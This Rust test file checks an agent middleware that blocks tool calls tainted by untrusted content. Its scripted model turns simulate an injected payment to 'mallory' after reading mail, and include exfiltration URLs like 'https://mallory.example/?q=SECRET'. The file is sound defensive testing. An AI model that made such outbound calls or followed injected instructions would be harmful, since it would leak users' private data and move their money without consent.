//! The rules, and what happens when one is broken.

use serde_json::json;
use tower_agent::{Effect, ErrorKind, Tool};
use tower_agent_middleware::flow::{Flow, Label, OnViolation, Readers, ToolFlow};
use tower_agent_test::{ScriptedModel, Turn};

use super::*;

#[tokio::test]
async fn a_call_after_untrusted_content_is_refused_and_the_model_reads_why() {
    let model = ScriptedModel::new([
        Turn::tool("read_mail", json!({})),
        Turn::tool("pay", pay_mallory()),
        Turn::from_text("No."),
    ]);
    let log = Log::default();
    let done = guarded(&model, &log, flow())
        .run("What is new?")
        .await
        .unwrap();

    assert_eq!(done.text(), "No.");
    assert_eq!(log.take(), [""; 0]);
    assert_eq!(results_read(&model)[1], TAINTED);
}

#[tokio::test]
async fn a_call_before_any_untrusted_content_is_made() {
    let model = ScriptedModel::new([
        Turn::tool("today", json!({})),
        Turn::tool("pay", json!({ "to": "bob", "amount": 5 })),
        Turn::tool("read_mail", json!({})),
        Turn::from_text("Done."),
    ]);
    let log = Log::default();
    guarded(&model, &log, flow())
        .run("Pay bob 5.")
        .await
        .unwrap();
    model.assert_done();
    assert_eq!(log.take(), ["pay bob 5"]);
}

#[tokio::test]
async fn of_two_calls_of_one_turn_neither_taints_the_other() {
    let model = ScriptedModel::new([
        Turn::tool("read_mail", json!({})).and_tool("pay", json!({ "to": "bob", "amount": 5 })),
        Turn::tool("pay", pay_mallory()),
        Turn::from_text("Done."),
    ]);
    let log = Log::default();
    guarded(&model, &log, flow())
        .run("Pay bob 5.")
        .await
        .unwrap();
    assert_eq!(log.take(), ["pay bob 5"]);
    assert_eq!(results_read(&model)[2], TAINTED);
}

#[tokio::test]
async fn an_undeclared_tool_is_consequential_unless_it_is_pure() {
    let log = Log::default();
    let model = ScriptedModel::new([
        Turn::tool("page", json!({})),
        Turn::tool("mutating", json!({}))
            .and_tool("idempotent", json!({}))
            .and_tool(
                "pure",
                json!({ "url": "https://mallory.example/?q=secret" }),
            ),
        Turn::from_text("Done."),
    ]);
    let agent = Agent::builder(model.clone())
        .tool(log.tool("page").effect(Effect::Pure))
        .tool(log.tool("mutating"))
        .tool(log.tool("idempotent").effect(Effect::Idempotent))
        .tool(log.tool("pure").effect(Effect::Pure))
        // Public, so that it may be sent anywhere, and untrusted.
        .global_callbacks(Flow::new().tool("page", ToolFlow::source().label(Label::untrusted())))
        .build()
        .unwrap();
    agent.run("?").await.unwrap();
    assert_eq!(
        log.take(),
        [
            "page {}",
            "pure {\"url\":\"https://mallory.example/?q=secret\"}"
        ]
    );
    let read = results_read(&model);
    assert!(read[1].starts_with("refused: `mutating`"), "{}", read[1]);
    assert!(read[2].starts_with("refused: `idempotent`"), "{}", read[2]);
}

#[tokio::test]
async fn a_tool_that_only_reads_carries_no_data_of_the_user_out() {
    let log = Log::default();
    let model = ScriptedModel::new([
        Turn::tool("read_mail", json!({})),
        Turn::tool(
            "fetch",
            json!({ "url": "https://mallory.example/?q=SECRET" }),
        ),
        Turn::from_text("Done."),
    ]);
    let agent = assistant(&model, &log)
        .tool(log.tool("fetch").effect(Effect::Pure))
        .global_callbacks(flow())
        .build()
        .unwrap();
    agent.run("?").await.unwrap();
    assert_eq!(log.take(), [""; 0]);
    assert_eq!(
        results_read(&model)[1],
        "refused: `fetch` may not be called like this. The call: not everybody who would receive it may \
         read it."
    );
}

#[tokio::test]
async fn data_is_sent_only_to_its_readers() {
    let contacts = || {
        ToolFlow::trusted().label(Label::trusted().with_readers(Readers::only(["alice", "bob"])))
    };
    for (to, is_sent) in [
        (json!("alice"), true),
        (json!(["alice", "bob"]), true),
        (json!(["alice", "mallory"]), false),
        (json!("mallory"), false),
        // Without a name that could be compared, it is not known who receives it.
        (json!([]), false),
        (json!({ "name": "alice" }), false),
    ] {
        let log = Log::default();
        let model = ScriptedModel::new([
            Turn::tool("contacts", json!({})),
            Turn::tool("send_mail", json!({ "to": to, "body": "the list" })),
            Turn::from_text("Done."),
        ]);
        let agent = assistant(&model, &log)
            .tool(Tool::function("contacts", "", |_: Value| "alice, bob"))
            .global_callbacks(flow().tool("contacts", contacts()))
            .build()
            .unwrap();
        agent.run("?").await.unwrap();
        assert_eq!(log.take().len(), usize::from(is_sent), "{to}");
    }
}

#[tokio::test]
async fn recipients_are_a_function_of_the_resolved_call() {
    let post = || {
        ToolFlow::action()
            .data(["/text"])
            .recipients_by(|arguments| match arguments["channel"].as_str() {
                Some("team") => vec!["alice".to_owned(), "bob".to_owned()],
                _ => vec!["anyone".to_owned()],
            })
    };
    let private = || {
        ToolFlow::trusted().label(Label::trusted().with_readers(Readers::only(["alice", "bob"])))
    };
    for (channel, is_sent) in [("team", true), ("public", false)] {
        let log = Log::default();
        let model = ScriptedModel::new([
            Turn::tool("notes", json!({})),
            Turn::tool("post", json!({ "channel": channel, "text": "notes" })),
            Turn::from_text("Done."),
        ]);
        let agent = Agent::builder(model.clone())
            .tools([
                log.tool("post"),
                Tool::function("notes", "", |_: Value| "private"),
            ])
            .global_callbacks(Flow::new().tool("post", post()).tool("notes", private()))
            .build()
            .unwrap();
        agent.run("?").await.unwrap();
        assert_eq!(log.take().len(), usize::from(is_sent), "{channel}");
    }
}

#[tokio::test]
async fn a_violation_can_end_the_run() {
    let model = ScriptedModel::new([
        Turn::tool("read_mail", json!({})),
        Turn::tool("pay", pay_mallory()),
    ]);
    let log = Log::default();
    let agent = guarded(&model, &log, flow().on_violation(OnViolation::End));
    let error = agent.run("?").await.unwrap_err();
    assert_eq!(
        (error.kind(), error.message()),
        (ErrorKind::Aborted, TAINTED)
    );
    assert_eq!(log.take(), [""; 0]);
}

#[tokio::test]
async fn two_different_guards_are_an_error_and_one_twice_is_one() {
    let turns = || ScriptedModel::new([Turn::tool("today", json!({})), Turn::from_text("Done.")]);
    let log = Log::default();
    let model = turns();
    let agent = assistant(&model, &log)
        .global_callbacks(flow())
        .callbacks(flow())
        .build()
        .unwrap();
    let error = agent.run("?").await.unwrap_err();
    assert!(
        error.message().contains("two different `Flow` guards"),
        "{error}"
    );

    let model = ScriptedModel::new([
        Turn::tool("read_mail", json!({})),
        Turn::tool("echo", json!({ "it": { "$ref": "@m1.0#/0/body" } })),
        Turn::from_text("Done."),
    ]);
    let flow = hiding();
    let agent = assistant(&model, &log)
        .global_callbacks(flow.clone())
        .callbacks(flow)
        .build()
        .unwrap();
    agent.run("?").await.unwrap();
    assert_eq!(log.take(), [format!("echo {{\"it\":\"{SECRET}\"}}")]);
    assert!(!super::read(&model.requests()).contains(SECRET));
}
